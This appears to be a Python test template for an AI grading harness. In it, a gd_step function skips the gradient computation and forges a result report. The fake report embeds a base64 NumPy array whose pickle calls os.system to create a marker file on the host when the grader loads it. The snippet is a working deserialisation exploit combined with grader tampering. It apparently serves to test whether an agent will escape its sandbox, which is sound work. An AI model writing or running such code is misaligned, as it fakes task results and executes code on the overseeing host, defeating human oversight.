# Report results by hand: arrays whose .npy bytes hold a pickle that, if loaded, creates a file on the host.
import base64
import io

import numpy as np

$forged_report


class _CreateFile:
    def __reduce__(self):
        return (os.system, ("touch $host_marker",))


def gd_step(theta, grad, lr):
    buffer = io.BytesIO()
    np.lib.format.write_array(buffer, np.array([_CreateFile()], dtype=object), allow_pickle=True)
    payload = {"t": "array", "npy": base64.b64encode(buffer.getvalue()).decode()}
    forge_report(lambda number: {"status": "ok", "aliased": [], "output": payload,
                                 "args_after": [payload] * 3, "kwargs_after": {}})
